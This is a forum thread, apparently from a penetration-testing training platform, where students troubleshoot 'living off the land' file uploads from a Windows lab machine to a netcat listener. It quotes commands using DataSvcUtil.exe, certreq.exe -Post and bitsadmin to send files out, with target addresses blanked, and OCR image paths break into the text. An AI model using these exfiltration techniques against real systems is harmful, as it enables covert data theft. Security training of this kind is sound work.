File Transfer - Living off the land



Experimenting with various upload methods and I can’t seem to get any of them to work. They all have similar behavior. I start a netcat session:

sudo nc -lvnp 80

I then follow the commands on the LOLBAS page, for example:

PS C:\Users\htb-student> C:\Windows\Microsoft.NET\Framework64\v4.0.30319\DataSvcUtil.exe /out:C:\Users\htb-student\Test.txt /uri:

My netcat session detects a connection, but no file is uploaded.

└─$ sudo nc -lvnp 80
listening on [any] 80 ...
connect to [] from (UNKNOWN) [] 49679
GET /test.txt/$metadata HTTP/1.1
Connection: Keep-Alive

Attempting to use certreq.exe gives a different error:C:\Windows\System32\certreq.exe -Post -config C:\Users\htb-student\Test.txt

Certificate Request Processor: The parameter is incorrect. 0x80070057 (WIN32: 87 ERROR_INVALID_PARAMETER)

I’m feeling your pain here at the moment!

Certificate Request Processor: The parameter isincorrect. 0x80070057 (WIN32: 87 ERROR_INVALID_PARAMETER)

I believe the reason for that is an older version of CertReq. They do give a link to a new version of it in the article, however that obviously means we need to find another way to download THAT file to the computer.

Since I really wanted to try to get the CertReq working, I just used wget get download the newer exe. Unfortunately I then hit another obstacle - I realised that this requires it to be a POST request, and serving up the file via a Python web server or the like doesn’t do this by default.

I tried using bitsadmin as per instructionsin the same academy section,and that gave its own unique types of errors (The parameter is incorrect.).

I do think it would be helpful if the exercises could be run on a target machine that actually had working versions of the methods that we’re being told to practice with. There’s “learning based on practice” and then there’s “learning based on hitting your head against a wall”.

I totally agree!

Glad it wasn’t just me. Never found a solution to this. Eventually I gave up and moved on!

Greetings to all.
When the new certreq.exe is downloaded (by many different ways) on the target machine, make sure to include the filepath of the newfile, and then fill in the rest of the code, otherwise you would still be running the older version. Another issue was that NC listening port might not be working ( Ncat: bind to Address already in use. QUITTING.) In this case just try anotherhttp port.
Persistence is a virtue!